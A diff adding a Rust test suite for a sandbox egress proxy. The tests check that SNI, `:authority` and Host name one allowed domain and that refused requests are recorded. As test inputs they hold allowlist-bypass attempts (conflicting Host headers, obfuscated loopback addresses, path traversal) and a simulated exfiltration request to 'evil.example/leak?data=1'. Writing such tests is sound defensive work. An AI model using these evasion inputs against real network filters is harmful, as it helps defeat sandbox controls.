@@ -1,0 +1,246 @@
+//! One identity: SNI, `:authority` and Host, per request and per stream.
+
+use std::sync::Arc;
+
+use allowlist::Reason;
+use http::Request;
+use sandbox_proxy_protocol::{Decision, Event};
+
+use crate::harness::{Answer, Pki, Proxy, Setup, Upstream, body, empty, raw, raw_tls};
+
+async fn start() -> (Proxy, Upstream) {
+    let pki = Pki::new();
+    let upstream = Upstream::start(pki.server(&["a.example", "b.example"], &["h2", "http/1.1"])).await;
+    let mut setup = Setup::new(pki, upstream.address);
+    setup.policy = "domains: [a.example, b.example]";
+    (setup.start().await, upstream)
+}
+
+#[tokio::test]
+async fn plain_requests_name_one_host() {
+    let (proxy, _upstream) = start().await;
+    let cases: &[(&str, u16, &str)] = &[
+        ("GET / HTTP/1.1\r\nHost: a.example", 200, ""),
+        ("GET / HTTP/1.1\r\nHost: A.EXAMPLE.", 200, ""),
+        ("GET / HTTP/1.1\r\nHost: a.example:80", 200, ""),
+        ("GET http://a.example/ HTTP/1.1\r\nHost: a.example", 200, ""),
+        ("GET http://a.example:80/ HTTP/1.1\r\nHost: a.example", 200, ""),
+        ("GET / HTTP/1.0\r\nHost: a.example", 200, ""),
+        ("GET / HTTP/1.1", 400, "identity"),
+        (
+            "GET / HTTP/1.1\r\nHost: a.example\r\nHost: a.example",
+            400,
+            "identity",
+        ),
+        (
+            "GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example",
+            400,
+            "identity",
+        ),
+        ("GET / HTTP/1.1\r\nHost: user@a.example", 400, "identity"),
+        ("GET / HTTP/1.1\r\nHost: [::1]", 400, "identity"),
+        ("GET / HTTP/1.1\r\nHost: 2130706433", 400, "identity"),
+        ("GET / HTTP/1.1\r\nHost: 0x7f.1", 400, "identity"),
+        ("GET / HTTP/1.1\r\nHost: 0177.0.0.1", 400, "identity"),
+        ("GET / HTTP/1.1\r\nHost: a..example", 400, "identity"),
+        ("GET / HTTP/1.1\r\nHost: \u{e9}.example", 400, "identity"),
+        (
+            "GET https://a.example/ HTTP/1.1\r\nHost: a.example",
+            400,
+            "identity",
+        ),
+        (
+            "GET http://u:p@a.example/ HTTP/1.1\r\nHost: a.example",
+            400,
+            "identity",
+        ),
+        (
+            "GET http://b.example/ HTTP/1.1\r\nHost: a.example",
+            421,
+            "identity_mismatch",
+        ),
+        ("GET / HTTP/1.1\r\nHost: a.example:8080", 403, "port"),
+        (
+            "GET http://a.example:8080/ HTTP/1.1\r\nHost: a.example",
+            403,
+            "port",
+        ),
+        ("GET / HTTP/1.1\r\nHost: 10.1.2.3", 403, "host"),
+        ("GET / HTTP/1.1\r\nHost: evil.example", 403, "host"),
+        ("GET /../x HTTP/1.1\r\nHost: a.example", 403, "path"),
+        ("GET /%2e%2e/x HTTP/1.1\r\nHost: a.example", 403, "path"),
+        ("GET /a b HTTP/1.1\r\nHost: a.example", 403, "path"),
+        ("GET /\u{e9} HTTP/1.1\r\nHost: a.example", 403, "path"),
+        ("GET /#fragment HTTP/1.1\r\nHost: a.example", 403, "path"),
+        ("GET * HTTP/1.1\r\nHost: a.example", 403, "path"),
+        ("TRACE / HTTP/1.1\r\nHost: a.example", 403, "method_forbidden"),
+        (
+            "CONNECT a.example:80 HTTP/1.1\r\nHost: a.example:80",
+            403,
+            "method_forbidden",
+        ),
+    ];
+    for (head, status, reason) in cases {
+        let answer = raw(&proxy, format!("{head}\r\nConnection: close\r\n\r\n").as_bytes()).await;
+        assert_eq!(answer.status(), *status, "{head:?}: {answer:?}");
+        let told = reason.is_empty() || answer.0.contains(&format!("x-sandbox-blocked: {reason}\r\n"));
+        assert!(told, "{head:?}: {answer:?}");
+        let record = proxy.request().await;
+        assert_eq!(record.status, Some(*status), "{head:?}: {record:?}");
+        assert_eq!(
+            record.reason.map_or("", Reason::as_str),
+            *reason,
+            "{head:?}: {record:?}"
+        );
+    }
+    proxy.stop().await;
+}
+
+#[tokio::test]
+async fn over_tls_the_host_is_that_of_the_handshake() {
+    let (proxy, _upstream) = start().await;
+    for (host, status) in [
+        ("a.example", 200),
+        ("a.example.", 200),
+        ("a.example:443", 200),
+        ("b.example", 421),
+        ("a.example:80", 403),
+    ] {
+        let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
+        assert_eq!(
+            raw_tls(&proxy, "a.example", head.as_bytes()).await.status(),
+            status,
+            "{host}"
+        );
+    }
+    proxy.stop().await;
+}
+
+#[tokio::test]
+async fn each_stream_of_a_connection_is_judged_by_itself() {
+    let (proxy, _upstream) = start().await;
+    let mut sender = proxy.http2("a.example").await;
+    let cases: &[(&str, Option<&str>, u16)] = &[
+        ("https://a.example/", None, 200),
+        ("https://b.example/", None, 421),
+        ("https://a.example/", Some("b.example"), 421),
+        ("https://a.example/", Some("a.example"), 200),
+        ("https://a.example:8443/", None, 403),
+        ("https://user@a.example/", None, 400),
+        ("http://a.example/", None, 400),
+        ("https://a.example/ok", None, 200),
+    ];
+    for (uri, host, status) in cases {
+        let mut request = Request::builder().uri(*uri);
+        if let Some(host) = host {
+            request = request.header("host", *host);
+        }
+        let response = sender.send_request(request.body(empty()).unwrap()).await.unwrap();
+        assert_eq!(response.status(), *status, "{uri} {host:?}");
+        Answer::read(response).await;
+    }
+    proxy.stop().await;
+}
+
+#[tokio::test]
+async fn a_refusal_over_http2_to_head_is_empty_and_the_connection_lives() {
+    let (proxy, _upstream) = start().await;
+    let mut sender = proxy.http2("evil.example").await;
+    for _ in 0..2 {
+        let request = Request::head("https://evil.example/").body(empty()).unwrap();
+        let answer = Answer::read(sender.send_request(request).await.unwrap()).await;
+        assert_eq!(
+            (answer.status.as_u16(), answer.reason(), answer.body.as_str()),
+            (403, "host", "")
+        );
+    }
+    proxy.stop().await;
+}
+
+#[tokio::test]
+async fn a_refused_upload_is_never_asked_for() {
+    let (proxy, _upstream) = start().await;
+    let head = "POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n";
+    let answer = raw(&proxy, head.as_bytes()).await;
+    assert_eq!(answer.status(), 403, "{answer:?}");
+    assert!(!answer.0.contains("100 Continue"), "{answer:?}");
+    // The control: where the gate permits, the client is told to go on.
+    let allowed = "POST /length HTTP/1.1\r\nHost: a.example\r\nContent-Length: 5\r\nExpect: 100-continue\r\nConnection: close\r\n\r\nhello";
+    let answer = raw(&proxy, allowed.as_bytes()).await;
+    assert!(
+        answer
+            .0
+            .starts_with("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n"),
+        "{answer:?}"
+    );
+    proxy.stop().await;
+}
+
+#[tokio::test]
+async fn a_refused_upload_without_expect_gets_its_answer_and_the_connection_goes_on() {
+    let (proxy, _upstream) = start().await;
+    let mut sender = proxy.http1("evil.example").await;
+    for _ in 0..2 {
+        let request = Request::post("/")
+            .header("host", "evil.example")
+            .body(body("some bytes"))
+            .unwrap();
+        sender.ready().await.unwrap();
+        let answer = Answer::read(sender.send_request(request).await.unwrap()).await;
+        assert_eq!((answer.status.as_u16(), answer.reason()), (403, "host"));
+    }
+    proxy.stop().await;
+}
+
+#[tokio::test]
+async fn without_a_readable_server_name_there_is_no_handshake() {
+    let (proxy, _upstream) = start().await;
+    for server_name in ["127.0.0.1", "1.2.3.999"] {
+        let Ok(name) = rustls::pki_types::ServerName::try_from(server_name.to_owned()) else {
+            continue;
+        };
+        let connector = tokio_rustls::TlsConnector::from(Arc::clone(&proxy.pki.client(&["h2"])));
+        let stream = tokio::net::TcpStream::connect(proxy.https()).await.unwrap();
+        assert!(connector.connect(name, stream).await.is_err(), "{server_name}");
+        let (alert, reason) = proxy
+            .record(|event| {
+                if let Event::TlsRefused { alert, reason, .. } = event {
+                    Some((alert, reason))
+                } else {
+                    None
+                }
+            })
+            .await;
+        assert_eq!(
+            (alert.as_str(), reason),
+            ("access_denied", Some(Reason::NoSni)),
+            "{server_name}"
+        );
+    }
+    proxy.stop().await;
+}
+
+#[tokio::test]
+async fn a_refusal_is_recorded_with_what_was_asked() {
+    let (proxy, _upstream) = start().await;
+    let answer = proxy
+        .ask2(
+            Request::get("https://evil.example/leak?data=1")
+                .body(empty())
+                .unwrap(),
+        )
+        .await;
+    assert_eq!(answer.status, 403);
+    let json: serde_json::Value = serde_json::from_str(&answer.body).unwrap();
+    assert_eq!(
+        (&json["error"], &json["path"]),
+        (&"blocked_by_network_allowlist".into(), &"/leak".into())
+    );
+    let record = proxy.request().await;
+    assert_eq!(
+        (record.decision, record.host.as_str(), record.target.as_str()),
+        (Decision::Blocked, "evil.example", "/leak?data=1")
+    );
+    assert_eq!(record.bytes_down, answer.body.len() as u64);
+    proxy.stop().await;
+}
